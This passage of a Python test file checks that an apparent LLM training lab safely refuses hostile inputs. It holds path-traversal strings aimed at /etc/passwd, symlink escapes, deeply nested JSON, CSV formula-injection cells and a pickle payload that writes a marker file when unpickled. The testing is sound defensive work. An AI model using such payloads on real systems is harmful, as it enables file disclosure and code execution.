         _extracted_only_messages, gone=lambda ctx: [Path("/tmp/llmlab-hostile/SMSSpamCollection")]),
    reject("zip-that-is-not-a-zip", _archive(lambda ctx: b"PK\x03\x04 but nothing else"), _download,
           "not a readable zip", after=_nothing_kept),
    reject("zip-nested-zip-member", _archive(lambda ctx: _zip({"SMSSpamCollection": _zip({"inner": MESSAGES})})),
           _download, after=_nothing_kept),
    reject("zip-encrypted-member", _archive(lambda ctx: _encrypted()), _download, "not a readable zip",
           after=_nothing_kept),
    reject("download-file-url", lit("file:///etc/passwd"),
           lambda url, ctx: download("sms-spam", url=url), "http or https"),
    reject("download-unknown-dataset-name", lit("../../etc/passwd"), lambda name, ctx: download(name),
           "no dataset called"),
    # --- run ids and run folders ----------------------------------------------------------------------------
    *[reject(f"run-id-{label}", lit(run_id), lambda r, c: runs.validate_run_id(r), "not allowed")
      for label, run_id in [("dot-dot-slash-x", "../x"), ("a-slash-b", "a/b"), ("absolute", "/abs"),
                            ("dot-dot", ".."), ("dot", "."), ("hidden", ".hidden"), ("backslash", "a\\b"),
                            ("65-chars", "x" * 65), ("nul-byte", "name\x00"), ("empty", ""),
                            ("space", "a b"), ("unicode", "ṙun"), ("not-a-str", 42), ("none", None)]],
    reject("run-id-300-chars", lit("x" * 300), lambda r, c: runs.validate_run_id(r), "not allowed"),
    reject("run-id-of-1-mb", lit(MEGA), lambda r, c: runs.validate_run_id(r), "not allowed"),
    safe("run-id-CON-is-allowed", lit("CON"), lambda r, c: runs.validate_run_id(r),
         _equals("CON")),  # a valid POSIX name; the code promises only the character rule
    reject("run-path-traversal", lit("../escape"), lambda r, c: runs.run_path(c.runs, r), "not allowed",
           gone=lambda ctx: [ctx.root / "escape"]),
    reject("start-job-with-traversal-run-id", lit("../escape"), lambda r, c: _job(r, c), "not allowed",
           gone=lambda ctx: [ctx.root / "escape", ctx.root / "escape" / runs.RUN_FILE]),
    safe("list-runs-symlink-pointing-outside", _symlinked_run, lambda d, c: runs.list_runs(d), _listed_as_broken,
         gone=_tripwire),
    safe("list-runs-symlink-loop",
         _symlink_loop,
         lambda d, c: runs.list_runs(d), _equals([])),  # a looping link is no folder: skipped, not followed
    reject("read-run-deeply-nested-json", lambda ctx: _run_json(ctx, ctx.runs / "r", "[" * 100_000 + "]" * 100_000),
           lambda d, c: runs.read_run(d), "not readable JSON"),
    reject("read-run-json-is-etc-passwd", lambda ctx: _symlink(_passwd(), "r/run.json")(ctx).parent,
           lambda d, c: runs.read_run(d), "not readable JSON"),
    reject("read-run-5000-digit-number", lambda ctx: _run_json(ctx, ctx.runs / "r", f'{{"step": {BIG_INT}}}'),
           lambda d, c: runs.read_run(d)),
    reject("resume-settings-negative-steps", _resume_with(TINY.to_dict(), {"max_steps": -1}),
           lambda d, c: Trainer.resume(d, list(range(64)) * 4), "max_steps"),
    reject("resume-settings-unknown-key", _resume_with(TINY.to_dict(), {"__class__": "x"}),
           lambda d, c: Trainer.resume(d, list(range(64)) * 4), "Unknown training setting"),
    reject("resume-model-too-big-for-memory",
           _resume_with(_tiny_config(**TOO_BIG), {"device": "cpu", "batch_size": 1}),
           lambda d, c: Trainer.resume(d, list(range(64)) * 4), "Training needs about"),
    reject("resume-through-symlinked-run-folder", _symlinked_run_with_stale_tmp,
           lambda r, c: _job(r, c, resume=True), "symbolic link"),
    reject("new-run-in-symlinked-run-folder", _symlinked_empty_run, lambda r, c: _job(r, c), "symbolic link",
           after=_victim_untouched),
    reject("resume-model-config-a-million-layers",
           _resume_with(_tiny_config(n_layers=10**6), {"device": "cpu", "batch_size": 1}),
           lambda d, c: Trainer.resume(d, list(range(64)) * 4), "n_layers must be at most", limit=HANG_LIMIT_S),
    # --- uploads: text --------------------------------------------------------------------------------------
    reject("text-upload-over-cap", lit(b"a" * (MAX_TEXT_BYTES + 1)),
           lambda d, c: parse_text_upload(d, "big.txt"), "limit", limit=2.0),
    reject("text-upload-custom-cap-plus-one", lit(b"a" * 1025),
           lambda d, c: parse_text_upload(d, "huge.txt", max_bytes=1024), "1 KB limit"),
    reject("text-upload-nul-bytes", lit(b"hello\x00world"), lambda d, c: parse_text_upload(d, "x.txt"), "NUL"),
    reject("text-upload-invalid-utf8", lit(b"caf\xe9 au lait"), lambda d, c: parse_text_upload(d, "x.txt"),
           "UTF-8"),
    reject("text-upload-utf16-without-bom", lit("hello world".encode("utf-16-le")),
           lambda d, c: parse_text_upload(d, "x.txt")),
    reject("text-upload-utf16-with-bom", lit("hello world".encode("utf-16")),
           lambda d, c: parse_text_upload(d, "x.txt"), "UTF-16"),
    reject("text-upload-empty", lit(b""), lambda d, c: parse_text_upload(d, "x.txt"), "empty"),
    reject("text-upload-only-whitespace", lit(b" \n\t\r\n "), lambda d, c: parse_text_upload(d, "x.txt"), "blank"),
    reject("text-upload-pdf", lit(b"%PDF-1.7 ..."), lambda d, c: parse_text_upload(d, "x.txt"), "PDF"),
    reject("text-upload-str-not-bytes", lit("already text"), lambda d, c: parse_text_upload(d, "x.txt"), "bytes"),
    reject("load-corpus-binary-file", _file("b.txt", b"\x00\x01"), lambda p, c: load_corpus(p), "binary"),
    reject("load-corpus-directory", lambda ctx: ctx.inp, lambda p, c: load_corpus(p), "neither"),
    reject("load-corpus-not-a-path", lit(42), lambda v, c: load_corpus(v)),
    reject("load-corpus-none", lit(None), lambda v, c: load_corpus(v), "corpus name or the path"),
    reject("load-corpus-bytes-path", lambda ctx: bytes(ctx.inp / "b.txt"), lambda v, c: load_corpus(v),
           "corpus name or the path"),
    reject("load-corpus-name-of-1-mb", lit(MEGA), lambda v, c: load_corpus(v), "neither"),
    reject("load-corpus-unknown-home-folder", lit("~no-such-user-llmlab/x.txt"), lambda v, c: load_corpus(v),
           "neither"),
    # --- uploads: instructions ------------------------------------------------------------------------------
    reject("instructions-nested-100k-json", lit(b"[" * 100_000 + b"]" * 100_000), _instr("x.json"),
           "nested far too deeply"),
    reject("instructions-nested-100k-jsonl", lit(b'{"a":' * 100_000 + b"1" + b"}" * 100_000), _instr("x.jsonl"),
           "nested far too deeply"),
    reject("instructions-json-is-a-dict", lit(b'{"instruction": "a", "output": "b"}'), _instr("x.json"),
           "single object"),
    reject("instructions-json-is-a-string", lit(b'"just text"'), _instr("x.json"), "single string"),
    reject("instructions-json-is-a-number", lit(b"42"), _instr("x.json"), "single number"),
    reject("instructions-jsonl-one-bad-line",
           lit(b'{"instruction": "a", "output": "b"}\n{"instruction": "c", "output": \n'), _instr("x.jsonl"),
           "Line 2"),
    reject("instructions-field-is-a-number", lit(b'[{"instruction": 1e999, "output": "b"}]'), _instr("x.json"),
           "number"),
    reject("instructions-field-is-nan", lit(b'[{"instruction": NaN, "output": "b"}]'), _instr("x.json"), "number"),
    reject("instructions-5000-digit-number", lit(f'[{{"instruction": {BIG_INT}, "output": "b"}}]'.encode()),
           _instr("x.json")),
    reject("instructions-jsonl-5000-digit-number", lit(f'{{"instruction": {BIG_INT}, "output": "b"}}\n'.encode()),
           _instr("x.jsonl"), "Line 1 of x.jsonl"),
    reject("instructions-too-many-records", lit(b"[" + b",".join([b"{}"] * 100_001) + b"]"), _instr("x.json"),
           "more than"),
    reject("instructions-over-cap", lit(b" " * (MAX_INSTRUCTION_BYTES + 1)), _instr("x.json"), "limit", limit=2.0),
    safe("instructions-formula-text-kept-verbatim",
         lit(json.dumps([{"instruction": cell, "output": "ok"} for cell in INJECTION]).encode()), _instr("x.json"),
         _csv_kept_verbatim_instructions),
    # --- uploads: tables ------------------------------------------------------------------------------------
    safe("csv-injection-cells-kept-as-plain-text", _injection_csv, _table(), _kept_verbatim),
    reject("csv-one-column", _csv("text\nhello\nworld\n"), _table(), "only one column"),
    reject("csv-only-a-header", _csv("text,label\n"), _table(), "no data rows"),
    reject("csv-mixed-float-and-str-labels", _csv("text,label\nhello there,1.5\nbye now,spam\nok then,ham\n"),
           _table(), "mixes numbers and words"),
    reject("csv-decimal-labels", _csv("text,label\nhello there,1.5\nbye now,2.5\n"), _table(), "decimal"),
    reject("tsv-with-commas", _csv("text,label\nhello there,ham\nbuy now,spam\n"), _table("upload.tsv"),
           "only one column"),
    reject("csv-ragged-row", _csv("text,label\nhello,ham,extra\n"), _table(), "cell"),
    reject("csv-unterminated-quote", _csv('text,label\n"hello,ham\nworld,spam\n'), _table()),
    reject("csv-cell-over-field-limit", lit(b"text,label\n" + b"a" * 200_000 + b",ham\nb,spam\n"), _table(),
           "could not be read"),
    reject("csv-too-many-rows", lit(b"text,label\n" + b"hi,ham\n" * 1_002),
           lambda d, c: parse_table_upload(d, "x.csv", max_rows=1_000), "more than 1,000 rows"),
    reject("csv-too-many-labels", lit(b"text,label\n" + b"".join(b"word %d,l%d\n" % (i, i) for i in range(30))),
           lambda d, c: parse_table_upload(d, "x.csv", label_col="label"), "different labels"),
    reject("csv-header-looks-like-data", _csv(f"{'x' * 200},label\nhello,ham\n"), _table(), "header"),
    reject("csv-nul-bytes", lit(b"text,label\nhe\x00llo,ham\n"), _table(), "NUL"),
    reject("csv-over-cap", lit(b"a" * (MAX_TABLE_BYTES + 1)), _table(), "limit", limit=2.0),
    # --- model configuration ----------------------------------------------------------------------------------
    reject("config-emb-dim-1e12-default-heads", lit({"emb_dim": 10**12}), lambda kw, c: GPTConfig(**kw),
           limit=HANG_LIMIT_S),
    reject("config-emb-dim-1e12-valid-heads-over-limit", lit({"emb_dim": 10**12, "n_heads": 8}),
           lambda kw, c: GPTConfig(**kw), "emb_dim must be at most 65,536"),
    *[reject(f"config-{name.replace('_', '-')}-over-limit", lit({name: value}), lambda kw, c: GPTConfig(**kw),
             f"{name} must be at most")
      for name, value in [("vocab_size", 2_000_001), ("context_length", 2**20 + 1), ("n_heads", 1_025),
                          ("n_layers", 1_025), ("ff_mult", 65)]],
    reject("config-emb-dim-5000-digits", lit({"emb_dim": 10**4999}), lambda kw, c: GPTConfig(**kw),
           "about 5,000 digits"),
    reject("config-drop-rate-1e400-int", lit({"drop_rate": 10**400}), lambda kw, c: GPTConfig(**kw), "drop_rate"),
    safe("config-gpt2-xl-within-limits", lit("gpt2-xl"), lambda n, c: GPTConfig.preset(n).n_layers, _equals(48)),
    safe("config-largest-allowed-sizes-are-only-numbers",
         lit({"vocab_size": 2_000_000, "context_length": 2**20, "emb_dim": 65_536, "n_heads": 1_024,
              "n_layers": 1_024, "ff_mult": 64}),
         lambda kw, c: GPTConfig(**kw).emb_dim, _equals(65_536)),
    reject("config-n-layers-negative", lit({"n_layers": -1}), lambda kw, c: GPTConfig(**kw), "n_layers"),
    reject("config-n-heads-zero", lit({"n_heads": 0}), lambda kw, c: GPTConfig(**kw), "n_heads"),
    reject("config-drop-rate-nan", lit({"drop_rate": float("nan")}), lambda kw, c: GPTConfig(**kw), "drop_rate"),
    reject("config-drop-rate-one", lit({"drop_rate": 1.0}), lambda kw, c: GPTConfig(**kw), "drop_rate"),
    reject("config-vocab-size-bool", lit({"vocab_size": True}), lambda kw, c: GPTConfig(**kw), "vocab_size"),
    reject("config-context-length-float", lit({"context_length": 2.5}), lambda kw, c: GPTConfig(**kw),
           "context_length"),
    reject("config-ln-eps-zero", lit({"ln_eps": 0.0}), lambda kw, c: GPTConfig(**kw), "ln_eps"),
    reject("config-from-dict-not-a-dict", lit("emb_dim=64"), lambda d, c: GPTConfig.from_dict(d), "mapping"),
    reject("config-unknown-preset", lit("../../gpt2"), lambda n, c: GPTConfig.preset(n), "Unknown preset"),
    reject("config-preset-name-of-1-mb", lit(MEGA), lambda n, c: GPTConfig.preset(n), "Unknown preset"),
    reject("config-preset-name-unhashable", lit(["gpt2"]), lambda n, c: GPTConfig.preset(n), "Unknown preset"),
    reject("config-value-of-1-mb", lit({"vocab_size": MEGA}), lambda kw, c: GPTConfig(**kw), "vocab_size"),
    reject("config-field-name-of-1-mb", lit({MEGA: 1}), lambda d, c: GPTConfig.from_dict(d),
           "Unknown configuration field"),
    reject("model-for-emb-dim-1e12", lit(None), lambda _, c: GPTModel(_huge_cfg()), "at most"),
    reject("trainer-memory-preflight-refuses-huge-model", lit(None),
           lambda _, c: Trainer(GPTConfig(**TOO_BIG), TrainSettings(device="cpu", batch_size=1),
                                list(range(64)) * 4),
           "Training needs about"),
    # --- training settings ----------------------------------------------------------------------------------
    reject("settings-lr-inf", lit({"lr": float("inf")}), lambda kw, c: TrainSettings(**kw), "lr"),
    reject("settings-lr-negative", lit({"lr": -1}), lambda kw, c: TrainSettings(**kw), "lr"),
    reject("settings-lr-nan", lit({"lr": float("nan")}), lambda kw, c: TrainSettings(**kw), "lr"),
    reject("settings-batch-size-zero", lit({"batch_size": 0}), lambda kw, c: TrainSettings(**kw), "batch_size"),
    reject("settings-val-ratio-one", lit({"val_ratio": 1.0}), lambda kw, c: TrainSettings(**kw), "val_ratio"),
    reject("settings-max-steps-bool", lit({"max_steps": True}), lambda kw, c: TrainSettings(**kw), "max_steps"),
    reject("settings-device-path", lit({"device": "../../dev/null"}), lambda kw, c: TrainSettings(**kw), "device"),
    reject("settings-precision-unknown", lit({"precision": "fp4"}), lambda kw, c: TrainSettings(**kw), "precision"),
    reject("settings-device-of-1-mb", lit({"device": MEGA}), lambda kw, c: TrainSettings(**kw), "device"),
    reject("settings-precision-of-1-mb", lit({"precision": MEGA}), lambda kw, c: TrainSettings(**kw), "precision"),
    reject("settings-lr-1e400-int", lit({"lr": 10**400}), lambda kw, c: TrainSettings(**kw), "lr"),
    reject("settings-unknown-key-of-1-mb", lit({MEGA: 1}), lambda d, c: TrainSettings.from_dict(d),
           "Unknown training setting"),
    safe("settings-max-steps-1e12-accepted", lit({"max_steps": 10**12}), lambda kw, c: TrainSettings(**kw),
         _settings_accepted),
    safe("trainer-max-steps-1e12-allocates-nothing-upfront", lit(None),
         lambda _, c: Trainer(TINY, TrainSettings(max_steps=10**12, batch_size=1, device="cpu"),
                              list(range(64)) * 4),
         _trainer_lazy),
    reject("trainer-cuda-index-too-large", lit(None),
           lambda _, c: Trainer(TINY, TrainSettings(device="cuda:99999999999999999999"), list(range(64)) * 4),
           "GPU"),
    reject("trainer-token-ids-beyond-vocab", lit(None),
           lambda _, c: Trainer(TINY, TrainSettings(device="cpu"), [10**6] * 100), "vocabulary"),
    # --- generation -----------------------------------------------------------------------------------------
    reject("generate-max-new-tokens-negative", lambda ctx: _model(), _gen(max_new_tokens=-1), "max_new_tokens"),
    reject("generate-max-new-tokens-bool", lambda ctx: _model(), _gen(max_new_tokens=True), "max_new_tokens"),
    reject("generate-temperature-nan", lambda ctx: _model(), _gen(temperature=float("nan")), "temperature"),
    reject("generate-temperature-inf", lambda ctx: _model(), _gen(temperature=float("inf")), "temperature"),
    reject("generate-temperature-negative", lambda ctx: _model(), _gen(temperature=-1.0), "temperature"),
    reject("generate-top-k-zero", lambda ctx: _model(), _gen(top_k=0), "top_k"),
    reject("generate-top-p-1-5", lambda ctx: _model(), _gen(top_p=1.5), "top_p"),
    reject("generate-top-p-nan", lambda ctx: _model(), _gen(top_p=float("nan")), "top_p"),
    reject("generate-seed-2-pow-64", lambda ctx: _model(), _gen(seed=2**64, temperature=1.0), "seed"),
    reject("generate-context-size-beyond-model", lambda ctx: _model(), _gen(context_size=10**9), "context_size"),
    reject("generate-eos-beyond-vocab", lambda ctx: _model(), _gen(eos_id=10**9), "eos_id"),
    reject("generate-float-prompt", lambda ctx: _model(),
           lambda m, c: generate(m, torch.tensor([[1.5, 2.0]]), max_new_tokens=1), "integers"),
    reject("generate-ragged-prompt", lambda ctx: _model(),
           lambda m, c: generate(m, [[1, 2], [3]], max_new_tokens=1), "list"),
    # --- data loading -----------------------------------------------------------------------------------------
    reject("dataloader-stride-zero", lit(list(range(100))),
           lambda ids, c: create_dataloader(ids, batch_size=2, max_length=4, stride=0), "stride"),
    reject("dataloader-max-length-1e9", lit(list(range(100))),
           lambda ids, c: create_dataloader(ids, batch_size=2, max_length=10**9, stride=1), "max_length"),
    reject("dataloader-batch-size-zero", lit(list(range(100))),
           lambda ids, c: create_dataloader(ids, batch_size=0, max_length=4, stride=4), "batch_size"),
    reject("dataloader-negative-ids", lit([1, -5, 3] * 10),
           lambda ids, c: create_dataloader(ids, batch_size=1, max_length=4, stride=4), "negative"),
    reject("dataloader-float-ids", lit([0.5] * 30),
           lambda ids, c: create_dataloader(ids, batch_size=1, max_length=4, stride=4), "whole numbers"),
    reject("dataloader-nested-ids", lit([[1, 2], [3, 4]]),
           lambda ids, c: create_dataloader(ids, batch_size=1, max_length=1, stride=1), "flat"),
    reject("sliding-windows-stride-float", lit(list(range(20))),
           lambda ids, c: sliding_windows(ids, max_length=4, stride=1.5), "stride"),
    # --- tokenizers -----------------------------------------------------------------------------------------
    reject("bpe-vocab-size-1e9", lit("hello hello world"), lambda t, c: train_bpe(t, 10**9), "vocab_size"),
    reject("bpe-vocab-size-10", lit("hello hello world"), lambda t, c: train_bpe(t, 10), "vocab_size"),
    reject("bpe-vocab-size-bool", lit("hello hello world"), lambda t, c: train_bpe(t, True), "vocab_size"),
    reject("bpe-empty-text", lit(""), lambda t, c: train_bpe(t, 300), "non-empty"),
    reject("tokenizer-name-path", lit("../../assets/gpt2"), lambda n, c: get_tokenizer(n), "Unknown tokenizer"),
    reject("tokenizer-simple-without-text", lit("simple-v1"), lambda n, c: get_tokenizer(n, text="   ")),
    reject("tokenizer-name-of-1-mb", lit(MEGA), lambda n, c: get_tokenizer(n), "Unknown tokenizer"),
    reject("tokenizer-name-unhashable", lit(["gpt2"]), lambda n, c: get_tokenizer(n), "Unknown tokenizer"),
    reject("dataset-info-name-of-1-mb", lit(MEGA), lambda n, c: get_info(n), "no dataset called"),
    # --- LoRA -----------------------------------------------------------------------------------------------
    reject("lora-rank-zero", _fresh_model, lambda m, c: apply_lora(m, rank=0, alpha=1), "rank"),
    reject("lora-rank-1e6", _fresh_model, lambda m, c: apply_lora(m, rank=10**6, alpha=1), "rank"),
    reject("lora-rank-float", _fresh_model, lambda m, c: apply_lora(m, rank=2.5, alpha=1), "rank"),
    reject("lora-alpha-nan", _fresh_model, lambda m, c: apply_lora(m, rank=2, alpha=float("nan")), "alpha"),
    reject("lora-target-matches-nothing", _fresh_model,
           lambda m, c: apply_lora(m, rank=2, alpha=2, targets="../../*"), "matches no"),
    # --- model forward --------------------------------------------------------------------------------------
    reject("forward-float-ids", lambda ctx: _model(), lambda m, c: m(torch.zeros(1, 4)), "integers"),
    reject("forward-negative-ids", lambda ctx: _model(), lambda m, c: m(torch.tensor([[1, -1]])), "outside"),
    reject("forward-id-equal-to-vocab", lambda ctx: _model(), lambda m, c: m(torch.tensor([[TINY.vocab_size]])),
           "outside"),
    reject("forward-too-long", lambda ctx: _model(),
           lambda m, c: m(torch.zeros(1, TINY.context_length + 1, dtype=torch.long)), "context length"),
    reject("forward-1d-ids", lambda ctx: _model(), lambda m, c: m(torch.tensor([1, 2, 3])), "batch, tokens"),
    reject("forward-no-tokens", lambda ctx: _model(), lambda m, c: m(torch.zeros(1, 0, dtype=torch.long)),
           "no tokens"),
    # --- classification / instruction datasets ------------------------------------------------------------
    reject("classify-max-length-negative",
           lit(pd.DataFrame({"text": ["hi there", "buy now"], "label": ["ham", "spam"]})),
           lambda df, c: ClassificationDataset(df, get_tokenizer("gpt2"), max_length=-1), "max_length"),
    reject("classify-padding-unknown",
           lit(pd.DataFrame({"text": ["hi there", "buy now"], "label": ["ham", "spam"]})),
           lambda df, c: ClassificationDataset(df, get_tokenizer("gpt2"), padding="../../x"), "padding"),
    reject("instruct-dataset-is-a-string", lit("instruction: do it"),
           lambda d, c: InstructionDataset(d, get_tokenizer("gpt2")), "non-empty list"),
    reject("instruct-record-output-is-a-list", lit([{"instruction": "Say hi", "output": ["hi"]}]),
           lambda d, c: InstructionDataset(d, get_tokenizer("gpt2"))),
]

_ids = [case.name for case in CASES]
assert len(_ids) == len(set(_ids)), "case names must be unique"


def _param(case: Case) -> Any:
    marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {case.bug}")] if case.bug else []
    return pytest.param(case, id=case.name, marks=marks)


# -------------------------------------------------------------------------------------------------- fixtures
@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    srv = Server()
    yield srv
    srv.httpd.shutdown()
    srv.httpd.server_close()


@pytest.fixture
def ctx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: Server) -> Ctx:
    c = Ctx(root=tmp_path, inp=tmp_path / "in", data=tmp_path / "data", runs=tmp_path / "runs",
            cwd=tmp_path / "cwd", outside=tmp_path / "outside", server=server, monkeypatch=monkeypatch)
    for folder in (c.inp, c.cwd, c.outside):
        folder.mkdir()
    monkeypatch.setenv("LLMLAB_DATA_DIR", str(c.data))
    monkeypatch.delenv("LLMLAB_DATASET_BASE_URL", raising=False)
    monkeypatch.setattr(fetch, "BACKOFF_S", 0.0)
    monkeypatch.chdir(c.cwd)  # anything written to a relative path would land here, and be caught
    return c


# ------------------------------------------------------------------------------------------------- the test
@pytest.mark.parametrize("case", [_param(c) for c in CASES])
def test_hostile_input(case: Case, ctx: Ctx) -> None:
    arg = case.build(ctx)
    before, siblings = _tree(ctx.root), set(os.listdir(ctx.root.parent))
    raised: BaseException | None = None
    result: Any = None
    start = time.perf_counter()
    try:
        with watchdog(case.limit):
            if case.accept is None:
                with pytest.raises(LabError) as info:
                    case.call(arg, ctx)
                raised = info.value
            else:
                result = case.call(arg, ctx)
    except Hang as err:
        pytest.fail(f"{case.name}: hang ({err})")
    elapsed = time.perf_counter() - start
    assert elapsed < case.limit, f"{case.name} took {elapsed:.1f} s"

    if raised is not None:
        msg = str(raised)
        _check_sentence(msg)
        if case.match:
            assert re.search(case.match, msg), f"{msg!r} does not mention {case.match!r}"
    else:
        case.accept(result, arg, ctx)

    after = _tree(ctx.root)
    changed = sorted(k for k in before.keys() | after.keys()
                     if before.get(k) != after.get(k) and k.split("/", 1)[0] not in ALLOWED)
    assert changed == [], f"{case.name} touched files outside data/ and runs/: {changed}"
    assert set(os.listdir(ctx.root.parent)) - siblings == set(), "a file appeared next to tmp_path"
    for path in case.gone(ctx) if case.gone else []:
        assert not os.path.lexists(path), f"{path} exists: the input escaped or was unpickled"
    if case.after is not None:
        case.after(ctx)


def test_table_is_large_enough() -> None:
    assert len(CASES) >= 40


def test_tripwire_is_armed(tmp_path: Path) -> None:
    """The pickle payloads above really would write their marker if anything unpickled them."""
    marker = tmp_path / "pwned"
    pickle.loads(pickle.dumps(_Tripwire(marker))).close()  # noqa: S301 - our own bytes, to prove the point
    assert marker.exists()


# ------------------------------------------------------------------------------ the shared helpers in core.errors
@pytest.mark.parametrize("value", ["x" * 2**20, b"y" * 2**20, 10**5000, -(10**400), ["z"] * 10_000, 2**70, None],
                         ids=["1-MB-str", "1-MB-bytes", "5001-digit-int", "negative-401-digits", "long-list",
                              "2-pow-70", "None"])
def test_shown_is_short_and_never_raises(value: Any) -> None:
    text = shown(value)
    assert len(text) <= SHOWN_LIMIT, text


def test_shown_keeps_short_values_exact_and_survives_a_broken_repr() -> None:
    class Broken:
        def __repr__(self) -> str:
            raise RuntimeError("no repr")

    assert shown("gpt5") == "'gpt5'" and shown(12) == "12" and shown("x" * 300, limit=10) == "'xxxxxxxx…"
    assert shown(10**5000) == "a number of about 5,001 digits"
    assert shown(Broken()) == "a Broken value"


@pytest.mark.parametrize("text, why", [
    ("[1,", "line 1, column 4"),
    ("[" * 100_000 + "]" * 100_000, "nested far too deeply"),
    (f"[{BIG_INT}]", "more than 4,300 digits"),
    (b'{"a": "\xff"}', "not UTF-8"),
])  # fmt: skip
def test_parse_json_safely_turns_every_failure_into_one_sentence(text: str | bytes, why: str) -> None:
    with pytest.raises(LabError) as info:
        parse_json_safely(text, "upload.json", "export it again")
    msg = str(info.value)
    _check_sentence(msg)
    assert msg.startswith("upload.json is not readable JSON (") and why in msg and msg.endswith("; export it again.")
    assert json_or_problem(text)[0] is None and why in (json_or_problem(text)[1] or "")


def test_parse_json_safely_returns_what_json_loads_returns() -> None:
    assert parse_json_safely('{"a": [1, 2.5, null]}', "x") == {"a": [1, 2.5, None]}
    assert parse_json_safely(b"[1]", "x") == [1] and json_or_problem("3") == (3, None)


# ------------------------------------------------------------------------------------- wide tables, odd labels
def test_a_table_with_200000_columns_is_refused_at_once():
    """1.9 MB, under the upload cap: the header alone once took minutes (a quadratic duplicate check)."""
    from core.classify_job import upload_columns
    from core.datasets import parse_table_upload

    wide = (",".join(f"c{i}" for i in range(200_000)) + "\n" + ",".join("x" for _ in range(200_000)) + "\n").encode()
    assert 1_500_000 < len(wide) < 5_000_000
    start = time.perf_counter()
    with pytest.raises(LabError, match="has 200,000 cells, more than the 50 columns"):
        parse_table_upload(wide, "wide.csv")
    assert upload_columns(wide, "wide.csv") == []
    assert time.perf_counter() - start < 2.0
    fifty = (",".join(["text", "label"] + [f"x{i}" for i in range(48)]) + "\n"
             + ",".join(["hello there", "ham"] + [""] * 48) + "\n" + ",".join(["win cash", "spam"] + [""] * 48))
    df, info = parse_table_upload(fifty.encode(), "fifty.csv")
    assert info["text_col"] == "text" and len(df) == 2


def test_whole_number_labels_in_other_spellings_are_one_class():
    from core.datasets import parse_table_upload

    data = b"text,label\ngood day,1\nbad day,0\nfine day,01\nawful day,+0\n"
    df, info = parse_table_upload(data, "nums.csv")
    assert sorted(df["label"].unique()) == ["0", "1"] and info["label_counts"] == {"1": 2, "0": 2}


# -------------------------------------------------------------------------------- bad weights fail at load
def _rewritten(tmp_path: Path, change: Callable[[dict], dict]) -> Path:
    """A tiny lab checkpoint whose tensors were changed by ``change``, header metadata kept."""
    from safetensors import safe_open

    path = ck.save(GPTModel(GPTConfig.preset("tiny", n_layers=1)), tmp_path / "m.safetensors")
    with safe_open(path, "pt") as f:
        meta, tensors = f.metadata(), {k: f.get_tensor(k) for k in f.keys()}  # noqa: SIM118
    save_file(change(tensors), tmp_path / "bad.safetensors", metadata=meta)
    return tmp_path / "bad.safetensors"


def test_half_precision_weights_load_as_float32_and_run(tmp_path):
    path = _rewritten(tmp_path, lambda ts: {k: v.half() for k, v in ts.items()})
    model = ck.load(path).model
    assert {p.dtype for p in model.parameters()} == {torch.float32}
    assert model(torch.tensor([[1, 2, 3]])).shape == (1, 3, 50257)


def test_nan_or_infinite_weights_are_refused_at_load(tmp_path):
    def poison(ts):
        ts["tok_emb.weight"][3, 5] = float("nan")
        return ts

    with pytest.raises(LabError, match="tok_emb.weight holds NaN or infinite numbers"):
        ck.load(_rewritten(tmp_path, poison))
    inf = _rewritten(tmp_path, lambda ts: {**ts, "final_norm.scale": ts["final_norm.scale"] * float("inf")})
    with pytest.raises(LabError, match="final_norm.scale holds NaN or infinite"):
        ck.load(inf)


def test_a_lone_surrogate_in_uploaded_json_is_one_sentence():
    from core.datasets import parse_instruction_upload

    data = b'[{"instruction": "Say \\ud800 hi", "input": "", "output": "hi"}]'
    with pytest.raises(LabError, match=r"Record 0 of x.json .* has a broken character .* in 'instruction'"):
        parse_instruction_upload(data, "x.json")


def test_the_uci_sms_file_uploads_as_the_book_reads_it(shared_data):
    """The header-less, extension-less SMSSpamCollection (label, TAB, text) gives the book's 5,572 rows."""
    from core.datasets import parse_table_upload

    path = shared_data / "SMSSpamCollection.tsv"
    if not path.is_file():
        pytest.skip("SMSSpamCollection.tsv is not in the shared data folder")
    df, info = parse_table_upload(path.read_bytes(), "SMSSpamCollection")
    assert len(df) == 5572 and info["label_counts"] == {"ham": 4825, "spam": 747} and info["delimiter"] == "\t"
    small, _ = parse_table_upload(b"ham\tsee you at noon\nspam\tWIN a prize now\nham\tok, thanks\n", "sms")
    assert list(small["label"]) == ["ham", "spam", "ham"] and small["text"][2] == "ok, thanks"
    with_header, info = parse_table_upload(b"label\ttext\nham\thi there\nspam\twin now\nham\tok\n", "t.tsv")
    assert len(with_header) == 3 and info["label_col"] == "label"


def test_the_uci_zip_uploads_as_the_book_downloads_it(shared_data):
    """The UCI archive (readme + SMSSpamCollection) uploads as it is; hostile archives get one sentence."""
    from core.classify_job import upload_columns
    from core.datasets import parse_table_upload

    path = shared_data / "SMSSpamCollection.tsv"
    if not path.is_file():
        pytest.skip("SMSSpamCollection.tsv is not in the shared data folder")
    archive = _zip({"readme": b"About the collection", "SMSSpamCollection": path.read_bytes()})
    df, info = parse_table_upload(archive, "smsspamcollection.zip")
    assert len(df) == 5572 and info["label_counts"] == {"ham": 4825, "spam": 747}
    assert upload_columns(archive, "smsspamcollection.zip") == ["label", "text"]  # header-less: named for it
    single, _ = parse_table_upload(_zip({"data/t.csv": b"text,label\nhi,a\nyo,b\n"}), "t.zip")
    assert list(single["label"]) == ["a", "b"]
    for bad, says in ((_zip({"a.csv": b"x", "b.csv": b"y"}), "2 data files"),
                      (_zip({"SMSSpamCollection": bytes(30 * 2**20)}), "unpacks to more than"),
                      (b"PK\x03\x04" + b"\x00" * 40, "damaged or unsupported zip"),
                      (_zip({"readme": b"only a readme"}), "0 data files")):
        with pytest.raises(LabError, match=says):
            parse_table_upload(bad, "x.zip")
        assert upload_columns(bad, "x.zip") == []
